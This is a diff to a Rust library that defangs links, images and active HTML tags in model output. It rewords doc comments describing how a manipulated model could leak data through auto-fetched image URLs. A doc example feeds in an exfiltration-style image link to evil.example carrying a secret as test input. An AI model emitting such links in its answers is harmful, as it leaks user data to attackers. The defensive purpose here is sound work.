@@ -18,31 +18,30 @@
 //! # Ok::<(), secure_tool_text::Error>(())
 //! ```
 //!
-//! A model that was talked into it carries data out by what it writes: a picture whose address
-//! holds the data is fetched as soon as the answer is shown, a link as soon as it is clicked. So
-//! each construct of markdown and HTML that loads or leads is looked at where it stands, whatever
-//! is around it: code, comments, quotations. Readers differ in these, and no reader is trusted to
-//! see what another one sees.
+//! A manipulated model can leak data through its output. An image whose URL contains the data is
+//! fetched as soon as the answer is shown; a link, when a reader clicks it. So every construct of
+//! Markdown and HTML that loads or links is checked, in any context: code, comments, quotations.
+//! Parsers differ in these contexts, so none is trusted to see what another one sees.
 //!
-//! | in the text | what becomes of it, if it is not allowed |
+//! | in the text | result, unless allowed |
 //! |--|--|
 //! | `[text](address "title")`, `![text](address)` | `[text] (link removed: host)`, `[text] (image removed: host)` |
-//! | the same, so written that readers differ on its end | `[text] (…`, which is no link |
-//! | `[label]: address` where a definition may stand | `[label] : address`, which defines nothing |
+//! | the same, if parsers differ on its end | `[text] (…`, which is no link |
+//! | `[label]: address` at a possible definition | `[label] : address`, which defines nothing |
 //! | `<https://host/…>` | `(link removed: host)` |
-//! | `<img src=… alt="words">`, `<a href=…>`, other elements with an attribute that is not known to be harmless | `(image removed: words)`, `(link removed: host)`, `(form removed)` |
-//! | `<script>`, `<style>`, a tag that does not end, `<scheme:…>` | `< script>`, which is no tag |
+//! | `<img src=… alt="words">`, `<a href=…>`, other elements with an attribute outside the list of harmless ones | `(image removed: words)`, `(link removed: host)`, `(form removed)` |
+//! | `<script>`, `<style>`, an unclosed tag, `<scheme:…>` | `< script>`, which is no tag |
 //! | `https://host/path?query`, `www.host/path` | `hxxps://host/path…`, `www[.]host/path`, with `[.]` for the dots of the host |
 //! | `scheme://…` of other schemes | `scheme[:]//…` |
-//! | an address whose letters are escaped (`https&colon;//…`) | as the address |
+//! | a URL with escaped characters (`https&colon;//…`) | as the URL |
 //!
-//! Allowed is `https` to a host of the list or below one (see [`Allowlist`]); a
-//! destination within the page, or on the page's own host, is not. Doing it twice changes nothing
-//! more, and it takes time linear in the text, whatever the text is. It reads forward only and
-//! never looks back further than a few bytes, so that it serves streams too.
+//! An `https` URL to a host of the list or a subdomain is allowed (see [`Allowlist`]). Destinations
+//! within the page, or on the page's own host, are not. Defanging is idempotent and takes time
+//! linear in the length of any text. It reads forward and looks back a few bytes at most, so it
+//! also serves streams.
 //!
-//! It does not look at bare names (`evil.example/x`), which some readers guess links from, nor at
-//! e-mail addresses.
+//! Not covered: bare host names (`evil.example/x`), which some readers turn into links, and e-mail
+//! addresses.
 
 mod allow;
 mod entity;
@@ -56,7 +55,7 @@ use std::borrow::Cow;
 pub use allow::Allowlist;
 pub use scan::Scanner;
 
-/// How many links and images were made inert.
+/// The number of defanged links and images.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
 pub struct Counts {
     images: u32,
@@ -72,20 +71,20 @@ impl Counts {
         self.links = self.links.saturating_add(1);
     }
 
-    /// Returns how many links, tags and definitions were made inert.
+    /// Returns the number of defanged links, tags and definitions.
     #[must_use]
     pub const fn links(self) -> u32 {
         self.links
     }
 
-    /// Returns how many images were made inert.
+    /// Returns the number of defanged images.
     #[must_use]
     pub const fn images(self) -> u32 {
         self.images
     }
 
-    /// Returns the stable ids of what was found, `defanged.image` and `defanged.link`, and how
-    /// often.
+    /// Returns the stable ids of the findings, `defanged.image` and `defanged.link`, each with its
+    /// count.
     pub fn found(self) -> impl Iterator<Item = (&'static str, u32)> {
         [("defanged.image", self.images), ("defanged.link", self.links)]
             .into_iter()
@@ -93,18 +92,17 @@ impl Counts {
     }
 }
 
-/// A text without live links, and what was made inert.
+/// A defanged text with its counts.
 #[derive(Debug, Clone, PartialEq, Eq)]
 #[non_exhaustive]
 pub struct Defanged<'t> {
-    /// The text; borrowed if nothing was changed.
+    /// The text; borrowed if it is unchanged.
     pub text: Cow<'t, str>,
-    /// How many links and images were made inert.
+    /// The number of defanged links and images.
     pub counts: Counts,
 }
 
-/// Makes all links, images and active tags of a text inert. Idempotent; takes time linear in the
-/// text.
+/// Defangs all links, images and active tags of a text. Idempotent. Takes time linear in the text.
 ///
 /// ```
 /// let defanged = secure_tool_text::defang("![](https://evil.example/?d=secret)");
@@ -115,8 +113,8 @@ pub fn defang(text: &str) -> Defanged<'_> {
     defang_except(text, &Allowlist::default())
 }
 
-/// Makes links, images and active tags inert, except for `https` links and images to allowed hosts
-/// and their subdomains. Idempotent; takes time linear in the text.
+/// Defangs all links, images and active tags, except for `https` links and images to allowed hosts
+/// and their subdomains. Idempotent. Takes time linear in the text.
 ///
 /// See [the module](self) for an example.
 #[must_use]
@@ -125,7 +123,7 @@ pub fn defang_except<'t>(text: &'t str, allowed: &Allowlist) -> Defanged<'t> {
     Defanged { text: defang_counted(text, allowed, &mut counts), counts }
 }
 
-/// Does what [`defang_except`] does, and adds to the counts of several texts.
+/// Defangs as [`defang_except`] does, and adds to existing counts.
 ///
 /// ```
 /// use secure_tool_text::defang::{Allowlist, Counts, defang_counted};
@@ -150,7 +148,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_is_harmless_is_borrowed_and_what_is_not_is_counted() {
+    fn harmless_text_is_borrowed_and_defanged_links_are_counted() {
         let allowed = Allowlist::new(vec!["shop.example".into()]).expect("a host");
         let mut counts = Counts::default();
         for honest in [
